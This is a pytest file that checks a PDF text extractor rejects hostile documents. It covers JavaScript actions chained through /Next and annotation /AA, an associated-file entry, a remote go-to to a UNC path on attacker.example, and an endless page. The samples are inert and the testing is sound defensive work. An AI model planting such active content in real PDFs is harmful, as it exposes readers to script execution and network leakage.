"""PDFs built to run code, reach the network, or make one page endless."""

from io import BytesIO

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from consumers.parsing.errors import ParseError
from consumers.parsing.extract import extract_text
from schemas.files import FileKind
from tests.consumers.parsing.factories import one_column_pdf
from tests.consumers.parsing.hostile import pdf_with_an_endless_page

LINES = ["Maria José dos Santos", "Analista Financeira | São Paulo - SP", "Python, SQL e Excel"]


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return action


def _javascript() -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject("app.alert(1)"))


def _pdf(change) -> bytes:
    return _pdf_from(one_column_pdf(LINES), change)


def _pdf_from(pdf: bytes, change) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf)))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _annotate(writer: PdfWriter, **entries: object) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)]),
        }
    )
    for key, value in entries.items():
        annotation[_name(f"/{key}")] = value
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _next_chain(writer: PdfWriter) -> None:
    # A harmless link whose /Next runs a script.
    first = _action("/URI", URI=TextStringObject("https://example.com"))
    first[_name("/Next")] = ArrayObject([_action("/GoTo"), _javascript()])
    writer._root_object[_name("/OpenAction")] = first


def _goto_remote(writer: PdfWriter) -> None:
    _annotate(writer, A=_action("/GoToR", F=TextStringObject(r"\\attacker.example\share\x.pdf")))


def _associated_file(writer: PdfWriter) -> None:
    spec = DictionaryObject(
        {_name("/Type"): _name("/Filespec"), _name("/F"): TextStringObject("x")}
    )
    writer._root_object[_name("/AF")] = ArrayObject([writer._add_object(spec)])


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(_next_chain, id="script chained through /Next"),
        pytest.param(
            lambda w: _annotate(w, AA=DictionaryObject({_name("/E"): _javascript()})),
            id="annotation /AA",
        ),
        pytest.param(_associated_file, id="associated file /AF"),
        pytest.param(_goto_remote, id="remote go-to a network path"),
    ],
)
def test_active_content_is_refused(change):
    with pytest.raises(ParseError) as caught:
        extract_text(_pdf(change), FileKind.PDF)

    assert caught.value.code == "unsafe_content"


def test_a_cycle_of_harmless_actions_ends():
    def cycle(writer: PdfWriter) -> None:
        first = _action("/GoTo")
        second = _action("/GoTo")
        first_ref = writer._add_object(first)
        second[_name("/Next")] = first_ref
        first[_name("/Next")] = writer._add_object(second)
        writer._root_object[_name("/OpenAction")] = first_ref

    assert "Maria José dos Santos" in extract_text(_pdf(cycle), FileKind.PDF).text


def test_a_plain_link_is_accepted():
    def link(writer: PdfWriter) -> None:
        _annotate(writer, A=_action("/URI", URI=TextStringObject("https://linkedin.com/in/x")))

    assert "Maria José dos Santos" in extract_text(_pdf(link), FileKind.PDF).text


def test_one_endless_content_stream_is_too_complex():
    with pytest.raises(ParseError) as caught:
        extract_text(pdf_with_an_endless_page(LINES), FileKind.PDF)

    assert caught.value.code == "file_too_complex"
